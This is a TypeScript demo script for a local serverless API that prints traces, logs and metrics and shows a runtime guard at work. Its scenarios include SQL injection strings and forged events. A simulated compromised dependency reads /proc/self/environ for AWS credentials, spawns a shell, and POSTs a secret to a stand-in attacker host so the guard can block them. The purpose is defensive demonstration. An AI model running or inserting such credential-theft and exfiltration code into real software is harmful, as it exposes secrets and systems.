/**
 * `pnpm demo`: the Customize Unicorns API on this machine, with what the
 * X-Ray console, CloudWatch Logs and CloudWatch Metrics would show for each
 * request. Every function runs under a strict runtime guard; the last
 * scenario shows it stopping a compromised dependency. See USAGE below.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { resolve } from 'node:path';
import { parseArgs } from 'node:util';
import { renderSpans, type SpanView } from '@lambda-sentinel/testing';
import middy from '@middy/core';
import type { ApiResponse, Invocation } from '../local/api-gateway.ts';
import { createApiGateway } from '../local/api-gateway.ts';
import { buildServiceMap, toHtml, toMermaid } from '../local/service-map.ts';
import { outsideTheFunctions, startLocalStack } from '../local/stack.ts';
import { allowedHosts, guardOptions } from '../src/shared/guard.ts';

const USAGE = `Usage: pnpm demo [options]

The Customize Unicorns API on this machine (dynalite, node:sqlite, a local JWT issuer, a local
X-Ray daemon), every function under sentinel() with a strict runtime guard. Each scripted request
prints its status, X-Ray trace, CloudWatch Logs lines and EMF metrics; then a compromised
dependency tries to read /proc/self/environ, spawn a shell and call out to an unknown host (all
three blocked), a service map, and "runtime guard: N violations" for the app (0 expected).

Options:
  --tracing B   xray (default: the X-Ray SDK) or otel (OpenTelemetry, OTLP to the daemon): same trace tree
  --mysql URL   use a MySQL/MariaDB server (mysql://root@127.0.0.1:3306) instead of node:sqlite
  --serve       keep the API up on http://127.0.0.1:PORT and print curl commands
  --port PORT   the port for --serve (default 3000)
  --out DIR     where service-map.html and service-map.mmd are written (default .demo-output/)
  --quiet       one line per invocation instead of traces, logs and metrics
  -h, --help    this text`;

const { values: args } = parseArgs({
  // `npm run demo -- --tracing otel` strips the `--`; `pnpm demo -- --tracing otel` passes it on.
  args: process.argv.slice(2).filter((arg, i) => !(i === 0 && arg === '--')),
  options: {
    mysql: { type: 'string' },
    tracing: { type: 'string', default: 'xray' },
    serve: { type: 'boolean', default: false },
    port: { type: 'string', default: '3000' },
    out: { type: 'string', default: resolve(import.meta.dirname, '../../../.demo-output') },
    quiet: { type: 'boolean', default: false },
    help: { type: 'boolean', short: 'h', default: false },
  },
});
if (args.help) {
  console.log(USAGE);
  process.exit(0);
}
if (args.tracing !== 'xray' && args.tracing !== 'otel') {
  console.error(`--tracing: expected xray or otel, got ${JSON.stringify(args.tracing)}\n\n${USAGE}`);
  process.exit(2);
}

const colour = process.stdout.isTTY && !process.env.NO_COLOR;
const paint = (code: number) => (s: string) => (colour ? `\x1b[${code}m${s}\x1b[0m` : s);
const bold = paint(1);
const dim = paint(2);
const red = paint(31);
const green = paint(32);
const yellow = paint(33);
const cyan = paint(36);
const indent = (text: string, by = '    ') => text.replace(/^/gm, by);

const stack = await startLocalStack({
  tracing: args.tracing,
  ...(args.mysql ? { mysqlUrl: args.mysql } : {}),
});
const { api, cognito, traces } = stack;
const allInvocations: Invocation[] = [];
/** How many of allInvocations are the app's own (the runtime guard scenario's come after). */
let appInvocations = 0;

function spansOf(root: string): SpanView[] {
  return traces.spans(root);
}

async function show(invocations: Invocation[]) {
  for (const inv of invocations) {
    allInvocations.push(inv);
    // UDP datagrams arrive a little after the invocation returns: wait for this invocation's own
    // ended handler span (its children are sent with or before it).
    await traces.trace(inv.traceRoot).catch(() => undefined);
    const outcome = inv.result.error
      ? red(`threw ${(inv.result.error as Error).name}: ${(inv.result.error as Error).message}`)
      : green('returned');
    console.log(`  ${bold(cyan(inv.function))} ${outcome}`);
    if (args.quiet) continue;
    const spans = spansOf(inv.traceRoot).filter((s) => belongsTo(s, inv, spansOf(inv.traceRoot)));
    console.log(
      dim(`    X-Ray trace (${stack.tracing === 'otel' ? 'OpenTelemetry' : 'X-Ray SDK'})`) +
        ` ${inv.traceRoot}`,
    );
    console.log(spans.length ? indent(renderSpans(spans), '      ') : dim('      (no spans received)'));
    console.log(dim('    CloudWatch Logs'));
    for (const log of inv.output.logs) {
      const { level, message, ...rest } = log as Record<string, unknown>;
      const full = `${String(level).padEnd(5)} ${message} ${JSON.stringify(pick(rest))}`;
      const line = full.length > 700 ? `${full.slice(0, 700)}…` : full;
      console.log(indent(level === 'WARN' || level === 'ERROR' ? yellow(line) : line, '      '));
    }
    console.log(dim('    CloudWatch Metrics (EMF)'));
    for (const doc of inv.output.emf) {
      const d = doc as any;
      for (const directive of d._aws.CloudWatchMetrics) {
        const dims = (directive.Dimensions[0] ?? []).map((k: string) => `${k}=${d[k]}`).join(',');
        const metrics = directive.Metrics.map((m: any) => `${m.Name}=${fmt(d[m.Name])}${unit(m.Unit)}`).join(
          '  ',
        );
        console.log(`      ${directive.Namespace} {${dims}}  ${metrics}`);
      }
    }
  }
}

function belongsTo(span: SpanView, inv: Invocation, spans: SpanView[]) {
  const byId = new Map(spans.map((s) => [s.id, s]));
  for (let cur: SpanView | undefined = span, hops = 0; cur && hops < 50; hops++) {
    if (cur.parentId === inv.parentId) return true;
    cur = cur.parentId ? byId.get(cur.parentId) : undefined;
  }
  return false;
}

// Context keys Powertools adds to every line; shown once in the header instead.
const NOISE = new Set([
  'timestamp',
  'service',
  'cold_start',
  'function_arn',
  'function_memory_size',
  'function_name',
  'function_request_id',
  'sampling_rate',
  'xray_trace_id',
]);
function pick(record: Record<string, unknown>) {
  return Object.fromEntries(Object.entries(record).filter(([k]) => !NOISE.has(k)));
}
const fmt = (v: unknown) =>
  typeof v === 'number' ? (Number.isInteger(v) ? String(v) : v.toFixed(2)) : JSON.stringify(v);
const unit = (u: string) => ({ Milliseconds: 'ms', Megabytes: 'MB', Count: '' })[u] ?? ` ${u}`;

let step = 0;
async function scenario(title: string, send: () => Promise<ApiResponse | Invocation>) {
  step += 1;
  console.log(`\n${bold(`━━ ${step}. ${title}`)}`);
  const result = await send();
  if ('statusCode' in result) {
    const status =
      result.statusCode < 300 ? green(String(result.statusCode)) : red(String(result.statusCode));
    const body = result.body.length > 160 ? `${result.body.slice(0, 160)}…` : result.body;
    console.log(`  → ${status} ${body}`);
    await show(result.invocations);
  } else {
    const status = (result.result.result as { statusCode?: number } | undefined)?.statusCode;
    if (status)
      console.log(
        `  → ${status < 300 ? green(String(status)) : red(String(status))} (the function's own response)`,
      );
    await show([result]);
  }
  return result;
}

const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });
const adminToken = cognito.accessToken('wildrydes-admin', ['WildRydes/ManagePartners']);

console.log(bold('Lambda Sentinel demo — the serverless security workshop\'s "Customize Unicorns" API'));
console.log(
  dim(
    `database: ${stack.database} · DynamoDB: dynalite ${stack.dynamodbEndpoint} · Cognito: local issuer ${cognito.userPoolId} · X-Ray daemon (${stack.tracing}): ${traces.address}`,
  ),
);
console.log(
  dim(
    `runtime guard: every policy blocks · writes: /tmp/** · reads: not ${process.env.LAMBDA_TASK_ROOT}/** nor /proc/*/environ · no child processes · outbound: ${allowedHosts().join(', ')}`,
  ),
);

if (args.serve) {
  const partner = await api.request('POST', '/partners', {
    headers: bearer(adminToken),
    body: JSON.stringify({ name: 'Serve Partner' }),
  });
  const { ClientID } = JSON.parse(partner.body) as { ClientID: string };
  const partnerToken = cognito.accessToken(ClientID, ['WildRydes/CustomizeUnicorn']);
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => {
      body += c;
    });
    req.on('end', async () => {
      const headers = Object.fromEntries(Object.entries(req.headers).map(([k, v]) => [k, String(v)]));
      const response = await api.request(req.method ?? 'GET', req.url ?? '/', {
        headers,
        ...(body ? { body } : {}),
      });
      console.log(`${req.method} ${req.url} → ${response.statusCode}`);
      await show(response.invocations);
      res.writeHead(response.statusCode, response.headers).end(response.body);
    });
  });
  server.listen(Number(args.port), '127.0.0.1', () => {
    console.log(`\nServing on http://127.0.0.1:${args.port} — try:`);
    console.log(`  curl -H 'Authorization: Bearer ${partnerToken}' http://127.0.0.1:${args.port}/socks`);
    console.log(
      `  curl -H 'Authorization: Bearer ${partnerToken}' http://127.0.0.1:${args.port}/customizations`,
    );
    console.log('Ctrl-C to stop.');
  });
  process.on('SIGINT', async () => {
    server.close();
    await stack.close();
    process.exit(0);
  });
} else {
  await scenario(
    'Register a partner company (ManagePartners scope) — the client secret never reaches the logs',
    () =>
      api.request('POST', '/partners', {
        headers: bearer(adminToken),
        body: JSON.stringify({ name: 'Unicorn Rides Inc' }),
      }),
  ).then(async (r) => {
    const { ClientID } = JSON.parse((r as ApiResponse).body) as { ClientID: string };
    const token = cognito.accessToken(ClientID, ['WildRydes/CustomizeUnicorn']);

    await scenario('List the socks (every valid token may read the parts)', () =>
      api.request('GET', '/socks', { headers: bearer(token) }),
    );
    const created = await scenario(
      'Create a customization (company comes from the authorizer, never the body)',
      () =>
        api.request('POST', '/customizations', {
          headers: bearer(token),
          body: JSON.stringify({
            name: 'Rainbow Rider',
            imageUrl: 'https://example.com/unicorn.png',
            sock: 1,
            horn: 2,
            glasses: 3,
            cape: 2,
            company: 1,
          }),
        }),
    );
    const id = JSON.parse((created as ApiResponse).body).customUnicornId;
    await scenario('Read it back', () =>
      api.request('GET', `/customizations/${id}`, { headers: bearer(token) }),
    );
    await scenario(
      'SQL injection in a field: refused by validation (and harmless anyway: every value is a bound parameter)',
      () =>
        api.request('POST', '/customizations', {
          headers: bearer(token),
          body: JSON.stringify({
            name: 'x',
            imageUrl: 'https://example.com/x.png',
            sock: 1,
            horn: 1,
            glasses: 1,
            cape: "2); INSERT INTO Socks (NAME, PRICE) VALUES ('pwned', 0",
          }),
        }),
    );
    await scenario('SQL injection in the path: refused', () =>
      api.request('GET', `/customizations/${encodeURIComponent('1; drop table Custom_Unicorns;')}`, {
        headers: bearer(token),
      }),
    );
    await scenario('A body carrying a password and a card number: logged redacted', () =>
      api.request('POST', '/customizations', {
        headers: bearer(token),
        body: JSON.stringify({
          name: 'Card Holder',
          imageUrl: 'https://example.com/c.png',
          sock: 1,
          horn: 1,
          glasses: 1,
          cape: 1,
          password: 'hunter2-Secret!',
          card: '4111 1111 1111 1111',
          email: 'rider@example.com',
        }),
      }),
    );
    await scenario('A token without the CustomizeUnicorn scope: denied by the authorizer policy', () =>
      api.request('GET', '/customizations', {
        headers: bearer(cognito.accessToken(ClientID, ['WildRydes/CustomizeUnicornX'])),
      }),
    );
    await scenario(
      'A forged direct invocation of customizeUnicorn (not from the API): refused by the allowlist',
      () =>
        api.invokeDirectly('customizeUnicorn', {
          resource: '/customizations',
          httpMethod: 'GET',
          requestContext: { authorizer: { CompanyID: '1' } },
        }),
    );
    await scenario('A forged API Gateway event from another API: 403 from the allowlist', () =>
      api.invokeDirectly('customizeUnicorn', {
        resource: '/customizations',
        path: '/customizations',
        httpMethod: 'GET',
        headers: {},
        requestContext: {
          accountId: stack.accountId,
          apiId: 'evil0api01',
          stage: 'dev',
          httpMethod: 'GET',
          resourcePath: '/customizations',
          authorizer: { CompanyID: '1', principalId: 'x' },
        },
        body: null,
      }),
    );
    await scenario('The scheduled analytics run (EventBridge rule): SQL counts, then DynamoDB', () =>
      api.invokeDirectly('customUnicornAnalytics', {
        version: '0',
        id: crypto.randomUUID(),
        'detail-type': 'Scheduled Event',
        source: 'aws.events',
        account: stack.accountId,
        time: new Date().toISOString(),
        region: stack.region,
        resources: [`arn:aws:events:${stack.region}:${stack.accountId}:rule/CustomUnicornAnalytics`],
        detail: {},
      }),
    );
    // A stand-in for any code path an attacker can force into CPU-bound work: it blocks the event loop.
    // Imported only now: the X-Ray SDK reads AWS_XRAY_DAEMON_ADDRESS when it loads, and the stack sets it.
    const { sentinel } = await import('@lambda-sentinel/preset/guard');
    const { instrumentation } = await import('../src/shared/observability.ts');
    const renderPreview = middy(async () => {
      const until = Date.now() + 300;
      while (Date.now() < until) {
        // busy: the event loop is blocked for 300 ms
      }
      return { ok: true };
    }).use(
      sentinel({
        ...instrumentation('render-preview'),
        serviceName: 'render-preview',
        allow: [{ kind: 'unknown' }],
        budgets: { eventLoopDelayMs: 100, cpuMs: 150 },
        guard: guardOptions(),
      }),
    );
    stack.functions.renderPreview = renderPreview;
    await scenario('A CPU-heavy request blocks the event loop for 300 ms: budget exceeded', async () => {
      const { invoke, captureOutput } = await import('@lambda-sentinel/testing');
      const traceRoot = `1-${Math.floor(Date.now() / 1000).toString(16)}-${crypto.randomUUID().replace(/-/g, '').slice(0, 24)}`;
      const parentId = crypto.randomUUID().replace(/-/g, '').slice(0, 16);
      let result!: Awaited<ReturnType<typeof invoke>>;
      const output = await captureOutput(async () => {
        result = await invoke(
          renderPreview,
          { preview: 'large' },
          {
            functionName: 'render-preview',
            xrayDaemonAddress: traces.address,
            traceId: `Root=${traceRoot};Parent=${parentId};Sampled=1`,
          },
        );
      });
      return {
        function: 'renderPreview',
        via: 'direct' as const,
        event: {},
        result,
        output,
        traceRoot,
        parentId,
      };
    });
    appInvocations = allInvocations.length;

    // The runtime guard at work. No vulnerability is added to the app: the demo builds a copy of
    // unicornParts — the real handler, under the same sentinel() options and strict guard — whose
    // request path first runs a "compromised dependency", and routes GET /socks to it.
    const { unicornParts } = await import('../src/app/unicornParts.ts');
    const { apiRule } = await import('../src/shared/allow.ts');
    const attempts: Array<{ action: string; outcome: string }> = [];
    async function attempt(action: string, run: () => unknown) {
      try {
        await run();
        attempts.push({ action, outcome: 'succeeded' });
      } catch (error) {
        // fetch reports a refused connection as a TypeError whose cause is the guard's error.
        const cause = (error as { cause?: unknown }).cause ?? error;
        const name = (cause as Error).name;
        const policy = (cause as { policy?: string }).policy;
        attempts.push({ action, outcome: policy ? `blocked: ${name} (${policy})` : `failed: ${name}` });
      }
    }
    // What a malicious package update would do on import of a hot code path; it swallows its own
    // errors so that the request still succeeds and nobody notices.
    async function compromisedDependency() {
      await attempt("read /proc/self/environ (the function's AWS credentials)", () =>
        readFileSync('/proc/self/environ'),
      );
      await attempt('spawn sh -c "id"', () => execFileSync('sh', ['-c', 'id']));
      await attempt('POST the loot to https://exfil.attacker.example/', () =>
        fetch('https://exfil.attacker.example/collect', {
          method: 'POST',
          body: 'AWS_SECRET_ACCESS_KEY=...',
        }),
      );
    }
    const compromisedParts = middy(async (event: Parameters<typeof unicornParts>[0]) => {
      await compromisedDependency();
      return unicornParts(event);
    }).use(
      sentinel({
        ...instrumentation('unicorn-parts'),
        serviceName: 'unicorn-parts',
        allow: [apiRule()],
        guard: guardOptions(),
      }),
    );
    const compromisedApi = createApiGateway({
      apiId: stack.apiId,
      stage: stack.stage,
      accountId: stack.accountId,
      region: stack.region,
      authorizer: stack.functions.authorizer!,
      functions: { unicornParts: compromisedParts },
      xrayDaemonAddress: traces.address,
      routes: [{ method: 'GET', resource: '/socks', function: 'unicornParts' }],
    });
    await scenario(
      'Runtime guard: a compromised dependency inside unicornParts reads the environment, spawns a shell, calls home',
      () => compromisedApi.request('GET', '/socks', { headers: bearer(token) }),
    );
    console.log(bold('  What the compromised dependency tried:'));
    for (const { action, outcome } of attempts) {
      const shown = outcome.startsWith('blocked') ? green(outcome) : red(outcome);
      console.log(`    ${action} → ${shown}`);
    }
  });

  const edges = buildServiceMap(allInvocations, spansOf);
  // The demo's own files, not the functions': written outside their runtime guard (which allows /tmp only).
  await outsideTheFunctions(() => {
    mkdirSync(args.out, { recursive: true });
    writeFileSync(resolve(args.out, 'service-map.html'), toHtml(edges));
    writeFileSync(resolve(args.out, 'service-map.mmd'), toMermaid(edges));
  });
  console.log(`\n${bold('Service map')} (as the X-Ray console draws it)`);
  console.log(indent(toMermaid(edges), '  '));
  console.log(`Written to ${resolve(args.out, 'service-map.html')} and service-map.mmd`);
  const events = allInvocations.flatMap((i) =>
    i.output.logs.filter((l: any) => l.security_event || l.securityEvent),
  );
  console.log(`${allInvocations.length} invocations, ${events.length} security event log lines.`);
  const violations = allInvocations
    .slice(0, appInvocations)
    .flatMap((i) => i.output.logs.filter((l: any) => l.security_event?.type === 'guard_violation'));
  const summary = `runtime guard: ${violations.length} violations in the app's ${appInvocations} invocations (every policy blocking)`;
  console.log(violations.length ? red(summary) : green(summary));
  await stack.close();
}
